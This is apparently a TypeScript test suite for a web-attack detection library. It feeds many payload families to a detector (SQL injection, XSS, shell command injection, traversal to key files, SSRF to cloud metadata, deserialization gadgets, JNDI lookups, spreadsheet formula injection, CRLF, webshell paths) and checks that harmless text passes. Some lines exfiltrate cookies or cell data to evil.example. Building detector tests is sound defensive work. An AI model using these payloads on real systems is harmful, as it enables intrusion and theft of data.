import assert from 'node:assert'
import { test } from 'node:test'
import { compileDetection } from '../../lib/detect/index.ts'

/** Every text of the first list before every one of the second. */
function each (...lists: string[][]): string[] {
  return lists.reduce((texts, list) => texts.flatMap((text) => list.map((next) => text + next)))
}

/** Ways out of the place in a statement that a value stands in. */
const OUT = ["7' ", "plum') ", '7" ', '7 ', '7) ']

/** Whole families of each class, as the manuals of databases, shells, browsers and engines have them; none of them comes from a list of attacks. */
const FAMILIES: Record<string, string[]> = {
  'sqli: comparisons': each(OUT, ['or 17-9=8', 'or 2*3>5', 'and(4)=(4)', 'or not false', 'or 3 between 2 and 4', "or 'k' like 'k%'", 'xor 1=2', 'or null is null'], ['-- ', '#', '/*']),
  'sqli: without a space': ['(4)or(4)=(4)', "4'and(2)='2", "'or(true)='1", "'-0-'", "'|4|'", "' div 4 div '", '4or(2)=(2)'],
  'sqli: without a sign': ['1 or true', '7 or 3 between 1 and 5', '@@version', '@@hostname'],
  'sqli: UNION': each(OUT, ['union select 1', 'union all select null,null', 'union values (1,2)', 'union table plums', 'union(select 1,2)', 'intersect select 1 from dual'], ['-- ', '']),
  'sqli: statements': each(["7'; ", '7; ', "plum');"], ["copy plums to '/tmp/a'", "copy plums to program 'id'", 'begin dbms_output.put_line(1); end', 'set global general_log=1', 'pragma table_info(a)', 'drop table plums', "waitfor delay '0:0:9'"], ['--', '']),
  'sqli: functions': each(OUT, ['and gtid_subset(version(),1)', 'and left(version(),1)=8', 'and nvl2(null,1,2)=2', 'and bitand(5,4)=4', 'and listagg(plum,1)=2', 'and polygon((select 1))', 'and pg_read_binary_file(1) is null'], ['', '#']),
  'sqli: values': ['plum;select 1', '(case when 1=1 then id else zip end)', 'char(65)+char(66)', "1' or 5=5 -- "],
  'xss: out of an attribute': each(['"', "'", '1"', '"/'], ['><h1>plum</h1>', '><a href=//evil.example>plum</a>', '><img src=//evil.example>']),
  'command: echoes': each(['7;', '7 | ', '7||', '7 && '], ['echo kiwi', 'printf kiwi', 'mv a b', 'su root', 'zip q /', 'java -jar q.jar', 'expr 9 + 9', 'gci c:\\']),
  'command: ends': each(['7;', '7|', '1.5; '], ['reboot', 'history', 'mount', 'export']),
  'command: lines': ['rm -rf plum', 'ping -c 9 127.0.0.1', 'find / -name plum', 'LD_PRELOAD=/tmp/q.so id', 'PATH=/tmp:$PATH sh', 'ssh -oProxyCommand=plum q', 'git clone --upload-pack=plum q', 'echo q >> ~/.ssh/authorized_keys', '{id,-a}'],
  'traversal: files of a system': each(['/etc/', '/etc//'], ['wireguard/wg0.conf', 'haproxy/haproxy.cfg', 'letsencrypt/live/q/privkey.pem', 'krb5.keytab', 'systemd/system/q.service']).concat('/.dockerenv', '/dev/null', 'C:\\ProgramData\\q'),
  'file-inclusion: shells': each(['http://evil.example/', 'https://evil.example/a/'], ['c99.txt', 'r57.txt?', 'shell.php?x=1', 'webshell.jpg', 'backdoor.php']),
  'xml: XPath': ["'] | //user/*[contains(*,'", "']/../password[text()='", 'doc("http://evil.example/x")', "' or count(//*)>0 or ''='"],
  'ssrf: hosts': each(['http://', 'https://', 'ftp://', 'mysql://root@', 'mongodb://', 'postgres://', 'amqp://'], ['127.0.0.1', 'localhost', '[::1]', '[64:ff9b::7f00:1]', '100.64.0.1', '10.0.0.5', '169.254.169.254'], ['', '/x', ':8080/x?y=z']),
  'ssrf: short spellings': ['http:127.0.0.1', 'http:/127.0.0.1', 'http:\\\\127.0.0.1', 'http://db.service.consul/'],
  'ssrf: long URLs': [`http://${'a'.repeat(400)}@127.0.0.1/`, `http://${'a'.repeat(4000)}:b@169.254.169.254/`, `http://127.0.0.1/?q=${'a'.repeat(5000)}`, `http://169.254.169.254/${'plum/'.repeat(900)}`, `gopher://q.example/_${'SET a b\r\n'.repeat(200)}`],
  'template: sums': ['{{9-4}}', '[[9+4]]', "[['9'*4]]", '[[(1+2)*3]]', '{%= 9*4 %}', '@(99/3)', "@('9'*4)"],
  'code: Python': ['globals()', 'sys.exit(9)', 'time.sleep(9)', "importlib.import_module('q')", "pickle.loads(b'')", 'plum.__class__', '__builtins__.__dict__', 'platform.node()', "urllib.request.urlopen('http://q')"],
  'code: Java': ['System.exit(1)', 'System.getenv("PATH")', '"id".execute()', 'new URLClassLoader(1)', 'groovy.lang.GroovyShell', 'redirect:${#plum}'],
  'code: Ruby, Perl, Lua': ['%x(id)', 'qx(id)', "send(:system,'id')", "Dir['*']", 'ENV["PATH"]', 'open(F,"id|")', "io.popen('id')"],
  'code: other runtimes': ['System.Diagnostics.Process.Start("q")', 'CreateObject("WScript.Shell").Run("q")', 'exec.Command("id").Run()', 'std::process::Command::new("id")', 'os:cmd("id")', 'System.cmd("id",[])', "Deno.run({cmd:['id']})", "Bun.spawn(['id'])"],
  'code: proofs': ['print(md5(9))', 'echo md5(9);', 'exit(9);', 'register_shutdown_function("system","id")', 'get_defined_vars()'],
  'deserialization: XML and JSON': ['<java><object class="java.lang.ProcessBuilder"></object></java>', '<sorted-set><dynamic-proxy><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>', '<ObjectDataProvider MethodName="Start"/>', '{"@class":"org.hibernate.jmx.StatisticsService"}', '\u0004\bo:'],
  'prototype-pollution: names': ['Object.prototype.plum=1', 'a.__lookupGetter__', '["constructor","prototype","x"]'],
  'crlf: other protocols': each(['q\r\n', '\r\n'], ['FLUSHALL\r\n', 'CONFIG SET dir /tmp\r\n', 'SLAVEOF 1.2.3.4 6379\r\n', '*1\r\n$8\r\nFLUSHALL\r\n', 'set kiwi 0 0 3\r\nabc', 'delete kiwi\r\n', 'Bcc: kim@evil.example']),
  'jndi: look-ups': ['${java:os}', '${log4j:configLocation}'],
  'code: formulas of spreadsheets': ["=cmd|'/c calc'!A9", "+cmd|' /C kiwi'!A0", "@SUM(1+9)*cmd|'/c kiwi'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', '=IMPORTXML("https://evil.example","//a")', '=DDE("cmd";"/c kiwi";"x")'],
  'code: static members, classic ASP, PowerShell, Lua': ['@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS', '@java.lang.Math@random()', 'eval request("q")', 'Execute(Request("q"))', '[System.Reflection.Assembly]::Load', "loadstring('q')()", "load('return 9')()", "'.print(9).'", 'print(99*9)'],
  'deserialization: other formats': ['{"^o":"Gem::Installer"}', '{"json_class":"Gem::Requirement"}', '{"py/reduce":["x"]}', '{"py/object/apply":"q"}', '{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;"}', "!<tag:yaml.org,2002:js/function> 'x'", "(S'id'\nios\nsystem\n.", "<java.util.PriorityQueue serialization='unserializable-parents'>", '<void method="start"/>', 'name|O:8:"stdClass":0:{}', '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]'],
  'jndi: look-ups of Commons Text': ['${url:UTF-8:http://evil.example}', '${xml:/etc/q.xml:/a}', '${properties:/etc/q::y}', '${base64Decoder:SGVsbG8=}', '${::-x}', 'jndi:ldap://evil.example/a', 'rmi://evil.example:1099/a'],
  'xml: XPath and XQuery by their functions': ['count(//*)', 'name(/*[1])', "doc(concat('http://evil.example/',name(/*)))", "environment-variable('PATH')", "for $x in doc('q')//b return $x", "' or last() or '", "')]|//plum/*[contains(*,'", '<?xml-stylesheet href="http://evil.example/q.xsl" type="text/xsl"?><a/>', '<exsl:document href="q">'],
  'ssrf: half a URL': ['/\\evil.example', '\\/\\/evil.example', '////evil.example', 'https:evil.example', '/\\127.0.0.1', 'view-source:http://127.0.0.1', 'https://q.example/?next=http://169.254.169.254/'],
  'traversal: parameters of a path, NULs, streams': ['..;/', '/..;/manager/html', 'a/..;x=1/b', 'web.config::$DATA', 'q.txt::$INDEX_ALLOCATION'],
  'template: Blade, Go, OGNL': ['{!! 9*4 !!}', '@php echo 9; @endphp', '@if(true)x@endif', '{{range .}}{{.}}{{end}}', '${(#a=1)}', '#{function(){return 1}()}'],
  'nosql: Solr, strings left and entered': ["_query_:\"{!xmlparser v='<x/>'}\"", "'+this.plum+'", "' || obj.plum || '", "' || Object.keys(this)[0] || '"],
  'sqli: the end of a query alone': ["'-- -", '"-- ', '9-- -', '9;--', '9)-- -'],
  'command: after an address': ['10.9\nid', 'plum.example\nwhoami'],
  'nosql: Cypher, Redis': ["' RETURN n//", "'}) RETURN n UNION MATCH (m) RETURN m //", "LOAD CSV FROM 'http://q' AS l", 'CALL dbms.procedures()', 'MATCH (n) DETACH DELETE n', 'EVAL "return 1" 0']
}

/** What stands next to them in ordinary traffic. */
const HARMLESS: string[] = [
  'id,name,user{id,name}', 'id,name,picture{url}', '1+1=2', '2*3=6', 'Is 5 > 3? Yes, and 3 < 5.', 'left (of the house) or right', 'He set global records', 'pragma once', 'begin with the basics; copy a to b',
  'name;asc', 'select one; select two', "kim's union table", 'a table of contents', 'PHP: how the system() function works for you', 'time to sleep (a lot)', 'the globals (all of them)', 'vars and locals', 'Java: the language',
  'process (re)start', 'a direct send: to me', 'ENV [production]', 'open (24 hours)', 'exit (left)', 'md5 of a file', 'platform: node', 'alexa;echo dot', 'music|history|art', 'fish;zip', 'wash; set aside',
  'rock -- and roll', 'well-known -ish', 'find-me', 'grep and sed', 'PATH=1', '/etcetera', 'see /var/log for details', 'the dev/null joke', '/dev', 'C:\\Users\\Kim\\a.txt', 'https://example.com/shells.html', 'https://example.com/evil.html',
  "user's [x] / y", 'http://consul.example/', 'mysql://db.example/shop', 'ssh://git@example.com/a.git', '100.64.0.1', '[[2024-01-05]]', '[[1 and 2]]', '{{count}}', '@(someone)', 'kim@example.com (9/3)', 'Thread: Class.forName',
  'return to sender', 'I RETURN home', 'MATCH point', 'CALL me', 'match (a) or return (b)', 'LOAD the van', 'two lines\nCC was here', 'set a 1\nset b 2', 'Cc: everybody', 'delete me', '{"@type":"Person","name":"x"}', 'sorted set', 'Object.prototype',
  'GET /a is a request', '127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] "GET /a HTTP/1.0" 200 23', 'Traceback (most recent call last):\n  File "/usr/lib/python3/a.py", line 1, in <module>\n    import x', '${java}', 'size 5" > 4"', '"yes" > "no"', 'a "quoted" > word',
  '=SUM(A1:A9)', '=A1+B2', '- cmd or ctrl', 'kim@java.example', '[System.Object] is the root', 'load the car', 'count (all of them)', 'for x in list', 'let it be', 'the doc (see http://example.com/)', '/a/b', 'https://example.com/a?next=http://example.org/', 'a; b/', 'price :: cost', '{! note !}', 'if (true) x', 'use a parameter', 'the _query_ of it', "it's this.one", '1 - 2', 'no 9 -- or 10', 'class: java', '{"class":"java"}', '["java",{"level":2}]', 'tree map', 'Gem of a requirement', '10.0.0.1\n10.0.0.2', 'kiwi.example\nplum.example'
]

const enc = encodeURIComponent
const detector = compileDetection({}, { maxBytes: 1e6 })

for (const [family, attacks] of Object.entries(FAMILIES)) {
  test(`${family}: each in a query, twice encoded, in a form and in JSON`, () => {
    const json = !family.startsWith('crlf')
    for (const text of attacks) {
      assert.ok(detector.request(`/x?q=${enc(text)}`, {}, false) !== undefined, JSON.stringify(text.slice(0, 99)))
      assert.ok(detector.request(`/x?q=${enc(enc(text))}`, {}, false) !== undefined, `twice encoded ${JSON.stringify(text.slice(0, 99))}`)
      if (json) assert.ok(detector.body(`q=${enc(text)}`, 'application/x-www-form-urlencoded') !== undefined, `form ${JSON.stringify(text.slice(0, 99))}`)
      if (json) assert.ok(detector.body({ q: text }, 'application/json') !== undefined, `JSON ${JSON.stringify(text.slice(0, 99))}`)
    }
  })
}

test('what stands next to them passes, alone and in a sentence', () => {
  for (const text of HARMLESS) {
    for (const found of [detector.request(`/x?q=${enc(text)}`, {}, false), detector.body({ q: text }, 'application/json'), detector.body({ q: `We met last week and talked about many things. ${text} That was all we had to say about it at the time.` }, 'application/json')]) {
      assert.strictEqual(found, undefined, text)
    }
  }
})

test('files that a server would run, by more names', () => {
  const judge = (filename: string): boolean => detector.body({ f: { type: 'file', fieldname: 'f', filename, fields: {} } }, 'multipart/form-data') !== undefined
  for (const name of ['q.svc', 'q.soap', 'q.cshtml', 'q.vbhtml', 'q.jspf', 'q.lnk', '.bashrc', 'id_rsa', '|id.png']) assert.ok(judge(name), name)
  for (const name of ['report (final).pdf', 'a.tar.gz', 'index.d.ts', 'profile.png', 'a|b.png', 'my.svc.txt']) assert.ok(!judge(name), name)
})

/** Texts before and behind an attack that an article would have. */
const PARAGRAPH = 'The quick brown fox jumps over the lazy dog and writes a long letter to its old friend in the city. '.repeat(15)
const WRAPPERS: Record<string, (text: string) => string> = {
  'a heading': (text) => `# Title\n\n${PARAGRAPH}\n${text}`,
  'a heading in the line': (text) => `# Title ${PARAGRAPH}${text}`,
  'a heading behind': (text) => `${text}\n\n# Title\n\n${PARAGRAPH}`,
  'a fence': (text) => `# Title\n\n${PARAGRAPH}\n\`\`\`\n${text}\n\`\`\`\n`,
  'a table': (text) => `${PARAGRAPH}\n| a | b |\n|---|---|\n| x | ${text} |\n`,
  'a program': (text) => `const a = {\n}\n${PARAGRAPH}\n${text}`,
  'code around': (text) => `${'a = 1;\n'.repeat(200)}${text}\nb = 2;`
}

test('a wrapper of Markdown or code hides nothing where no article stands: in a query, a header, a cookie', () => {
  for (const text of ["1' or '1'='1", '1 UNION SELECT name, password FROM users', '; cat /etc/passwd', '$(whoami)', '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '../../../../etc/passwd', '${jndi:ldap://evil.example/a}', '{{7*7}}', "require('child_process').exec('id')", "system('id')", "__import__('os').system('id')", '*)(uid=*', "'; return true; var x='"]) {
    for (const [name, wrap] of Object.entries(WRAPPERS)) {
      const value = enc(wrap(text))
      assert.ok(detector.request(`/x?q=${value}`, {}, false) !== undefined, `${name}: ${text}`)
      assert.ok(detector.request('/x', { cookie: `q=${value}` }, false) !== undefined, `${name}, cookie: ${text}`)
    }
  }
})

test('a script that only a payload has counts in a fence and in a span of code, too', () => {
  for (const text of ['<script>alert(1)</script>', '<script>eval(name)</script>', '<script>new Image().src="//evil.example/"+document.cookie</script>', '<img src=x onerror=alert(1)>']) {
    for (const body of [`# Title\n\n${PARAGRAPH}\n\`\`\`\n${text}\n\`\`\`\n`, `${PARAGRAPH} \`${text}\` is it.`]) assert.ok(detector.body({ body }, 'application/json') !== undefined, body.slice(-80))
  }
  for (const text of ['<script src="https://cdn.example.com/a.js"></script>', '<script>const a = 1</script>']) {
    for (const body of [`# Title\n\n${PARAGRAPH}\n\`\`\`html\n${text}\n\`\`\`\n`, `${PARAGRAPH} \`${text}\` is it.`]) assert.strictEqual(detector.body({ body }, 'application/json'), undefined, text)
  }
})

test('crlf: a value that begins with a header, heads of letters and requests, in a query', () => {
  for (const text of ['\r\nX:1', '\nX-Q: 1', 'q HTTP/1.1\r\nX:1', 'kim@example.com\r\nTo: eve@evil.example', 'q\\r\\nSet-Cookie: a=b', 'q\u010d\u010aSet-Cookie:a=b', 'q\r\n\r\n<h1>plum</h1>']) {
    assert.ok(detector.request(`/x?q=${enc(text)}`, {}, false) !== undefined, JSON.stringify(text))
  }
  for (const text of ['two\r\nlines', 'C:\\new: folder', 'a\\nb: c']) assert.strictEqual(detector.request(`/x?q=${enc(text)}`, {}, false), undefined, text)
})

test('a NUL in a URL, and only there', () => {
  for (const text of ['\u0000', 'q\u0000', 'q.jpg\u0000x']) assert.ok(detector.request(`/x?q=${enc(text)}`, {}, false) !== undefined, JSON.stringify(text))
  assert.strictEqual(detector.body({ q: 'two words\u0000' }, 'application/json'), undefined)
})

test('arrays that are joined: an attack in several values of one name', () => {
  for (const parts of [['1/*', '*/union/*', '*/select 1'], ["1' or/*", "*/'1'='1"], ['1;cat /etc/', 'passwd'], ['<script>/*', '*/alert(1)</script>']]) {
    assert.ok(detector.request(`/x?${parts.map((part) => `q=${enc(part)}`).join('&')}`, {}, false) !== undefined, parts.join())
    assert.ok(detector.request(`/x?${parts.map((part, i) => `q=${enc(part)}&p${i}=1`).join('&')}`, {}, false) !== undefined, `apart: ${parts.join()}`)
    assert.ok(detector.body({ q: parts }, 'application/x-www-form-urlencoded') !== undefined, `form: ${parts.join()}`)
  }
  const excluding = compileDetection({ exclude: { params: ['q'] } }, { maxBytes: 1e6 })
  assert.strictEqual(excluding.request('/x?q=1/*&q=*/union/*&q=*/select%201', {}, false), undefined)
  for (const url of ['/x?f=id&f=name&f=created_at', '/x?tag=c%23&tag=c%2B%2B&tag=java', "/x?n=O'Neil&n=D'Arcy", '/x?size=5%22&size=7%22', '/x?x=select&x=from&x=users', '/x?cat=ls&cat=rm']) assert.strictEqual(detector.request(url, {}, false), undefined, url)
})

test('constants of a GraphQL document are values', () => {
  for (const text of ['*)(uid=*', 'http://169.254.169.254/', 'O:8:"stdClass":0:{}', 'php://filter/resource=q', "1' or '1'='1"]) {
    const query = `{ user(name: ${JSON.stringify(text)}) { id } }`
    assert.ok(detector.body({ query }, 'application/json') !== undefined, text)
    assert.ok(detector.body({ query: `mutation { q(a: """${text}""") { id } }` }, 'application/json') !== undefined, `block: ${text}`)
    assert.ok(detector.body(query, 'application/graphql') !== undefined, `alone: ${text}`)
    assert.ok(detector.request(`/graphql?query=${enc(query)}`, {}, false) !== undefined, `query: ${text}`)
  }
  for (const query of ['{ user(name: "kim") { id name(format: "full") } }', 'query Q($a: String = "x", $b: Int = 1) { list(first: 10, after: "Y3Vyc29yOjEw", where: { name: { contains: "plum" } }) { edges { node { id } } } }', 'fragment F on User { id bio(text: "It\'s (all) fine; or so") }']) {
    assert.strictEqual(detector.body({ query }, 'application/json'), undefined, query)
  }
})

test('names of JSON that lead to a prototype or to an operator when they are merged or taken apart', () => {
  for (const body of [{ constructor: { prototype: { plum: 1 } } }, { a: [{ constructor: { prototype: {} } }] }, { op: 'add', path: '/__proto__/plum', value: 1 }, { op: 'add', path: '/constructor/prototype/plum' }, { 'user[$ne]': 'a' }]) {
    assert.ok(detector.body(body, 'application/json') !== undefined, JSON.stringify(body))
  }
  for (const body of [{ constructor: 'Ferrari' }, { constructor: { name: 'Ferrari', prototypes: 2 } }, { op: 'add', path: '/prototype/plum' }, { 'price[usd]': 1 }]) assert.strictEqual(detector.body(body, 'application/json'), undefined, JSON.stringify(body))
  for (const url of ['/x?q%255B%2524ne%255D=1', '/x?user[$ne]', '/x?%23__proto__[a]=1']) assert.ok(detector.request(url, {}, false) !== undefined, url)
})

test('file names: more of what runs, names that are written backwards, and a header behind a name', () => {
  const judge = (filename: string): boolean => detector.body({ f: { type: 'file', fieldname: 'f', filename, fields: {} } }, 'multipart/form-data') !== undefined
  for (const name of ['q.ascx', 'q.jhtml', 'q.yaws', 'q.user.ini', 'q.php?.png', 'q.php#.png', 'q\u202egnp.js', 'q.png\r\nX: 1']) assert.ok(judge(name), JSON.stringify(name))
  for (const name of ['what is php? notes.md', 'C# course.pdf', 'q.config.ts', 'erbium.txt', 'photo #2.png']) assert.ok(!judge(name), name)
})

test('pages that scanners ask for, by more names', () => {
  for (const path of ['/shell.php', '/c99.php', '/kcfinder/upload.php', '/_vti_pvt/service.pwd', '/.ftpconfig', '/sftp-config.json', '/latest/meta-data/', '/site.tar.gz', '/tmUnblock.cgi']) assert.ok(detector.request(path, {}, true) !== undefined, path)
  for (const path of ['/website', '/site/about', '/shell', '/nagios-plugins', '/latest', '/storage/a.png', '/uploads/photo.png']) assert.strictEqual(detector.request(path, {}, true), undefined, path)
})
